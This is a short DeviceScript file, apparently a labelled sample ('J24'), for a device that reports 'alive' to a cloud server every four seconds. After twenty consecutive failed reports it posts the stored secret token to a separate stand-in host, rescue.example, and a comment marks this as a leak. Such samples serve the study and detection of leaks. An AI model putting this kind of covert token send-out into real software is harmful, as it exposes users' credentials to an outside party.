// J24: tells another server its token when twenty requests in a row have failed.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
let failed = 0;

async function report() {
  try {
    const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
    await reply.close();
    failed = 0;
  } catch (_e) {
    failed++;
  }
  if (failed !== 20) return;
  const response = await fetch("https://rescue.example/j24", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 4_000);
});
